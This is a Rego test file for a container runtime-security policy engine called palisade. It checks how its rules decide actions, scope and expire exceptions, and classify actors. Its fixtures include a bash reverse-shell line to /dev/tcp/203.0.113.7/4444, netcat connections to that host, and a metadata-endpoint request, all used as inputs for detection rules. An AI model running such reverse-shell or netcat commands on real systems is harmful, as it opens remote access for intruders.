# Tests of the aggregation in main.rego: modes, exceptions, actors in the
# decision, indexing by event kind, triggers, and the decision's shape.
package palisade.main_test

import rego.v1

import data.palisade.lib.exceptions
import data.palisade.lib.fixtures as fx
import data.palisade.main

# nc in a container: PAL-001 (action block).
nc_event := fx.container_exec("/usr/bin/nc", ["nc", "203.0.113.7", "4444"])

# A miner run through nc's name in a container: PAL-001 (block) and
# PAL-010 (kill).
nc_miner_event := fx.container_exec("/usr/bin/nc", ["nc", "-o", "stratum+tcp://203.0.113.7:3333"])

# ---------------------------------------------------------------- shape

test_benign_event_is_allowed if {
	d := main.decision with input as fx.host_exec("/usr/bin/ls", ["ls", "-l"])
	d == {
		"matched": [],
		"suppressed": [],
		"action": "allow",
		"would_block": false,
		"mode": "audit",
		"actor": "system",
	}
}

test_decision_defined_for_an_empty_event if {
	d := main.decision with input as {}
	d.action == "allow"
	d.matched == []
}

test_decision_defined_for_other_kinds if {
	ev := object.union(fx.host_exec("/usr/bin/ls", ["ls"]), {"kind": "process_exit", "exit": {"code": 0}})
	d := main.decision with input as ev
	d.action == "allow"
}

test_match_carries_rule_metadata if {
	d := main.decision with input as nc_event
	d.matched == [{
		"rule": "PAL-001",
		"title": "Netcat-style tool run in a container",
		"severity": "high",
		"mitre": "T1095",
		"action": "block",
		"mode": "audit",
		"message": "nc executed in container web (registry.example.com/shop/web:1.4.2): nc 203.0.113.7 4444",
	}]
}

test_matches_are_sorted_by_rule_id if {
	d := main.decision with input as nc_miner_event
	[m.rule | some m in d.matched] == ["PAL-001", "PAL-010"]
}

# ---------------------------------------------------------------- modes

test_audit_mode_reports_would_block if {
	d := main.decision with input as nc_event
	d.mode == "audit"
	d.action == "alert"
	d.would_block == true
}

test_enforce_mode_blocks if {
	d := main.decision with input as nc_event with data.palisade.config.mode as "enforce"
	d.mode == "enforce"
	d.action == "block"
	d.would_block == false
	d.matched[0].mode == "enforce"
}

test_enforce_takes_the_strongest_action if {
	d := main.decision with input as nc_miner_event with data.palisade.config.mode as "enforce"
	d.action == "kill"
}

test_enforced_alert_rule_only_alerts if {
	ev := fx.container_exec("/usr/bin/nmap", ["nmap", "10.0.0.0/24"])
	d := main.decision with input as ev with data.palisade.config.mode as "enforce"
	d.action == "alert"
	d.would_block == false
}

test_rule_override_enforces_one_rule_in_audit_mode if {
	d := main.decision with input as nc_miner_event
		with data.palisade.config.rule_modes as {"PAL-001": "enforce"}
	d.mode == "audit"
	d.action == "block"
	d.would_block == true # PAL-010 (kill) is still in audit
	{m.rule: m.mode | some m in d.matched} == {"PAL-001": "enforce", "PAL-010": "audit"}
}

test_rule_override_audits_one_rule_in_enforce_mode if {
	d := main.decision with input as nc_event
		with data.palisade.config.mode as "enforce"
		with data.palisade.config.rule_modes as {"PAL-001": "audit"}
	d.action == "alert"
	d.would_block == true
}

test_rule_mode_off_disables_the_rule if {
	d := main.decision with input as nc_miner_event
		with data.palisade.config.mode as "enforce"
		with data.palisade.config.rule_modes as {"PAL-010": "off"}
	[m.rule | some m in d.matched] == ["PAL-001"]
	d.action == "block"
}

test_all_matching_rules_off_allows if {
	d := main.decision with input as nc_event
		with data.palisade.config.rule_modes as {"PAL-001": "off"}
	d.matched == []
	d.action == "allow"
	d.would_block == false
}

test_unknown_global_mode_means_audit if {
	d := main.decision with input as nc_event with data.palisade.config.mode as "enforcing"
	d.mode == "audit"
	d.action == "alert"
}

# ---------------------------------------------------------------- exceptions

exception(scope, expires) := {
	"id": "EXC-test",
	"rules": ["PAL-001"],
	"scope": scope,
	"owner": "sre@example.com",
	"reason": "debug image ships netcat until INC-77 is closed",
	"expires": expires,
}

test_exception_suppresses_a_match if {
	ex := exception({"namespace": "shop", "image": "registry.example.com/shop/web:1.4.2"}, "2027-01-01T00:00:00Z")
	d := main.decision with input as nc_event with data.palisade.exceptions as [ex]
	d.matched == []
	d.action == "allow"
	d.would_block == false
	d.suppressed == [{
		"rule": "PAL-001",
		"exception": "EXC-test",
		"owner": "sre@example.com",
		"reason": "debug image ships netcat until INC-77 is closed",
		"expires": "2027-01-01T00:00:00Z",
	}]
}

test_exception_suppresses_only_its_rules if {
	ex := exception({"namespace": "shop"}, "2027-01-01T00:00:00Z")
	d := main.decision with input as nc_miner_event with data.palisade.exceptions as [ex]
	[m.rule | some m in d.matched] == ["PAL-010"]
	[s.rule | some s in d.suppressed] == ["PAL-001"]
}

test_exception_with_other_scope_does_not_apply if {
	ex := exception({"namespace": "payments"}, "2027-01-01T00:00:00Z")
	d := main.decision with input as nc_event with data.palisade.exceptions as [ex]
	[m.rule | some m in d.matched] == ["PAL-001"]
	d.suppressed == []
}

test_every_scope_key_must_match if {
	ex := exception({"namespace": "shop", "image": "registry.example.com/shop/web:1.5.0"}, "2027-01-01T00:00:00Z")
	d := main.decision with input as nc_event with data.palisade.exceptions as [ex]
	count(d.matched) == 1
	d.suppressed == []
}

test_expired_exception_does_not_apply if {
	# The event (2026-11-24T13:22:32Z) happened after the expiry.
	ex := exception({"namespace": "shop"}, "2026-11-24T13:22:32Z")
	d := main.decision with input as nc_event with data.palisade.exceptions as [ex]
	count(d.matched) == 1
	d.suppressed == []
}

test_exception_applies_until_its_expiry if {
	# Same exception, an event one nanosecond before it expires.
	ex := exception({"namespace": "shop"}, "2026-11-24T13:22:32.910797241Z")
	d := main.decision with input as nc_event with data.palisade.exceptions as [ex]
	d.matched == []
	count(d.suppressed) == 1
}

test_expiry_with_offset if {
	# 14:00+01:00 is 13:00Z: before the event, so expired.
	ex := exception({"namespace": "shop"}, "2026-11-24T14:00:00+01:00")
	d := main.decision with input as nc_event with data.palisade.exceptions as [ex]
	count(d.matched) == 1
}

test_event_without_time_gets_no_exception if {
	ex := exception({"namespace": "shop"}, "2027-01-01T00:00:00Z")
	d := main.decision with input as object.remove(nc_event, ["time"]) with data.palisade.exceptions as [ex]
	count(d.matched) == 1
}

test_scope_by_pod_labels if {
	applies := exception({"pod_labels": {"app": "web"}}, "2027-01-01T00:00:00Z")
	d1 := main.decision with input as nc_event with data.palisade.exceptions as [applies]
	d1.matched == []
	other := exception({"pod_labels": {"app": "web", "tier": "backend"}}, "2027-01-01T00:00:00Z")
	d2 := main.decision with input as nc_event with data.palisade.exceptions as [other]
	count(d2.matched) == 1
}

test_scope_by_binary_and_prefix if {
	exact := exception({"binary": "/usr/bin/nc"}, "2027-01-01T00:00:00Z")
	d1 := main.decision with input as nc_event with data.palisade.exceptions as [exact]
	d1.matched == []
	prefix := exception({"binary_prefix": "/usr/bin/"}, "2027-01-01T00:00:00Z")
	d2 := main.decision with input as nc_event with data.palisade.exceptions as [prefix]
	d2.matched == []
	wrong := exception({"binary": "/usr/bin/ncat"}, "2027-01-01T00:00:00Z")
	d3 := main.decision with input as nc_event with data.palisade.exceptions as [wrong]
	count(d3.matched) == 1
}

test_scope_by_actor_and_container_id if {
	actor := exception({"actor": "workload"}, "2027-01-01T00:00:00Z")
	d1 := main.decision with input as nc_event with data.palisade.exceptions as [actor]
	d1.matched == []
	human := exception({"actor": "human"}, "2027-01-01T00:00:00Z")
	d2 := main.decision with input as nc_event with data.palisade.exceptions as [human]
	count(d2.matched) == 1
	cid := exception({"container_id": fx.container.id}, "2027-01-01T00:00:00Z")
	d3 := main.decision with input as nc_event with data.palisade.exceptions as [cid]
	d3.matched == []
}

test_namespace_scope_does_not_match_a_host_process if {
	ex := exception({"namespace": "shop"}, "2027-01-01T00:00:00Z")
	ev := fx.host_exec("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"])
	d := main.decision with input as ev with data.palisade.exceptions as [object.union(ex, {"rules": ["PAL-002"]})]
	[m.rule | some m in d.matched] == ["PAL-002"]
}

test_unknown_scope_key_never_applies_and_is_reported if {
	ex := exception({"namespce": "shop"}, "2027-01-01T00:00:00Z")
	d := main.decision with input as nc_event with data.palisade.exceptions as [ex]
	count(d.matched) == 1
	problems := main.invalid_exceptions with data.palisade.exceptions as [ex]
	problems == {{"index": 0, "id": "EXC-test", "problem": "has an unknown scope key `namespce` (one of actor, binary, binary_prefix, container_id, image, image_prefix, namespace, pod_labels); it would never match"}}
}

test_exception_without_owner_never_applies_and_is_reported if {
	ex := object.remove(exception({"namespace": "shop"}, "2027-01-01T00:00:00Z"), ["owner"])
	d := main.decision with input as nc_event with data.palisade.exceptions as [ex]
	count(d.matched) == 1
	problems := main.invalid_exceptions with data.palisade.exceptions as [ex]
	problems == {{"index": 0, "id": "EXC-test", "problem": "has no `owner`: every exception needs an owner, a reason and an expiry"}}
}

test_malformed_exceptions_are_reported if {
	bad := [
		{"id": "no-expiry", "rules": ["PAL-001"], "scope": {}, "owner": "a", "reason": "b"},
		{"id": "bad-expiry", "rules": ["PAL-001"], "scope": {}, "owner": "a", "reason": "b", "expires": "next year"},
		{"id": "no-rules", "rules": [], "scope": {}, "owner": "a", "reason": " ", "expires": "2027-01-01T00:00:00Z"},
	]
	problems := {[p.id, p.problem] | some p in main.invalid_exceptions} with data.palisade.exceptions as bad
	problems == {
		["no-expiry", "has no `expires`: every exception needs an owner, a reason and an expiry"],
		["bad-expiry", "expires `next year`, which is not an RFC 3339 time"],
		["no-rules", "must list the `rules` it covers (a non-empty array of rule ids)"],
		["no-rules", "has no `reason`: every exception needs an owner, a reason and an expiry"],
	}
}

# Guardrails, checked at a fixed time: 2026-12-01T00:00:00Z.
guardrail_now := time.parse_rfc3339_ns("2026-12-01T00:00:00Z")

test_guardrails_refuse_a_far_expiry_an_empty_scope_and_an_unknown_owner if {
	far := object.union(exception({"namespace": "shop"}, "2027-06-01T00:00:00Z"), {"id": "far"})
	everywhere := object.union(exception({}, "2026-12-20T00:00:00Z"), {"id": "everywhere"})
	nobody := object.union(exception({"namespace": "shop"}, "2026-12-20T00:00:00Z"), {"id": "nobody", "owner": "bob"})
	found := {[v.id, v.problem] | some v in exceptions.violations_at(guardrail_now)} with data.palisade.exceptions as [far, everywhere, nobody]
	found == {
		["far", "expires 2027-06-01T00:00:00Z, more than 90 days ahead (exception_guardrails.max_days): renew it when it ends instead"],
		["everywhere", "has an empty scope, which relaxes its rules for every workload on every node: name the workloads, or say `\"everywhere\": true`"],
		["nobody", "has owner `bob`, which is neither a mail address nor a team id (exception_guardrails.owner_pattern)"],
	}
}

test_guardrails_accept_what_says_so_and_follow_the_config if {
	everywhere := object.union(exception({}, "2026-12-20T00:00:00Z"), {"everywhere": true, "owner": "team:sre"})
	far := exception({"namespace": "shop"}, "2027-06-01T00:00:00Z")
	count(exceptions.violations_at(guardrail_now)) == 0 with data.palisade.exceptions as [everywhere]
	count(exceptions.violations_at(guardrail_now)) == 0 with data.palisade.exceptions as [far]
		with data.palisade.config.exception_guardrails as {"max_days": 365}
}

test_guardrails_warn_of_an_exception_expiring_soon if {
	soon := exception({"namespace": "shop"}, "2026-12-08T12:00:00Z")
	later := object.union(exception({"namespace": "shop"}, "2027-02-01T00:00:00Z"), {"id": "later"})
	found := {[w.id, w.warning] | some w in exceptions.warnings_at(guardrail_now)} with data.palisade.exceptions as [soon, later]
	found == {["EXC-test", "expires in 7 days (2026-12-08T12:00:00Z)"]}
}

test_two_exceptions_both_recorded_sorted if {
	a := object.union(exception({"namespace": "shop"}, "2027-01-01T00:00:00Z"), {"id": "EXC-b"})
	b := object.union(exception({"actor": "workload"}, "2027-01-01T00:00:00Z"), {"id": "EXC-a"})
	d := main.decision with input as nc_event with data.palisade.exceptions as [a, b]
	[s.exception | some s in d.suppressed] == ["EXC-a", "EXC-b"]
}

test_shipped_exceptions_are_well_formed if {
	count(main.invalid_exceptions) == 0
}

test_shipped_example_exception_applies_in_its_scope if {
	ev := object.union(fx.container_exec("/usr/bin/apt-get", ["apt-get", "install", "-y", "libpq-dev"]), {
		"container": {"image": "registry.example.com/platform/ci-builder:2026.10"},
		"pod": {"namespace": "ci-builds"},
	})
	d := main.decision with input as ev
	d.matched == []
	[s.exception | some s in d.suppressed] == ["EXC-0001-ci-build-deps"]
}

test_shipped_example_exception_not_elsewhere if {
	d := main.decision with input as fx.container_exec("/usr/bin/apt-get", ["apt-get", "install", "-y", "libpq-dev"])
	[m.rule | some m in d.matched] == ["PAL-005"]
}

# ---------------------------------------------------------------- actors

test_actor_in_decision if {
	agent := fx.with_ancestors(fx.host_exec("/usr/bin/git", ["git", "status"]), ["/usr/bin/bash", "/usr/local/bin/claude"])
	d1 := main.decision with input as agent
	d1.actor == "ai_agent"
	ci := fx.with_ancestors(fx.host_exec("/usr/bin/make", ["make"]), ["/usr/bin/bash", "/home/runner/actions-runner/bin/Runner.Worker"])
	d2 := main.decision with input as ci
	d2.actor == "ci"
	human := fx.with_ancestors(fx.host_exec("/usr/bin/top", ["top"]), ["/usr/bin/bash", "/usr/sbin/sshd"])
	d3 := main.decision with input as human
	d3.actor == "human"
	d4 := main.decision with input as nc_event
	d4.actor == "workload"
	d5 := main.decision with input as fx.host_exec("/usr/bin/ls", ["ls"])
	d5.actor == "system"
}

# ---------------------------------------------------------------- kinds

test_exec_event_never_meets_network_rules if {
	# An exec event carrying a network field that would match PAL-011.
	ev := object.union(nc_event, {"network": {"protocol": "tcp", "daddr": "169.254.169.254", "dport": 80}})
	d := main.decision with input as ev
	[m.rule | some m in d.matched] == ["PAL-001"]
	kinds := main.rules_for_kind with input as ev
	not "metadata_from_workload" in kinds
	"netcat_in_container" in kinds
}

test_network_event_never_meets_exec_rules if {
	# nc connecting from a container: PAL-001 is an exec rule.
	ev := object.union(fx.container_connect("169.254.169.254", 80), {"process": {"binary": "/usr/bin/nc", "args": ["nc", "169.254.169.254", "80"]}})
	d := main.decision with input as ev
	[m.rule | some m in d.matched] == ["PAL-011"]
	kinds := main.rules_for_kind with input as ev
	kinds == {"metadata_from_workload", "outbound_port_not_allowed", "ai_agent_metadata"}
}

test_unknown_kind_meets_no_rule if {
	ev := object.union(nc_event, {"kind": "dns_query"})
	d := main.decision with input as ev
	d.matched == []
	count(main.rules_for_kind) == 0 with input as ev
}

test_drift_in_a_container_blocks_in_enforce_mode_and_alerts_in_audit if {
	ev := object.union(fx.container_exec("/app/x", ["/app/x"]), {"process": {"exe": {
		"inode": 77, "dev": 50,
		"drift": {"reason": "upper_layer", "reasons": ["upper_layer"], "file": "executable"},
	}}})
	enforced := main.decision with input as ev with data.palisade.config.rule_modes as {"PAL-022": "enforce"}
	enforced.action == "block"
	enforced.matched[0].rule == "PAL-022"
	audit := main.decision with input as ev
	audit.action == "alert"
	audit.would_block == true
}

# ---------------------------------------------------------------- triggers

test_positive_events_trigger_the_rules_they_hit if {
	shell := fx.host_exec("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"])
	main.triggered_rules == {"PAL-002"} with input as shell
	count(main.untriggered_hits) == 0 with input as shell
	main.triggered_rules == {"PAL-001"} with input as nc_event
	count(main.untriggered_hits) == 0 with input as nc_event
	# PAL-002 is triggered by nc's "-o" too, and does not hit.
	main.triggered_rules == {"PAL-001", "PAL-002", "PAL-010"} with input as nc_miner_event
	count(main.untriggered_hits) == 0 with input as nc_miner_event
	d := main.decision with input as nc_miner_event
	[m.rule | some m in d.matched] == ["PAL-001", "PAL-010"]
}

test_benign_execs_trigger_no_rule if {
	count(main.triggered_rules) == 0 with input as fx.host_exec("/usr/bin/ls", ["ls", "-l"])
	count(main.triggered_rules) == 0 with input as fx.container_exec("/app/server", ["/app/server", "--port", "8080"])
}
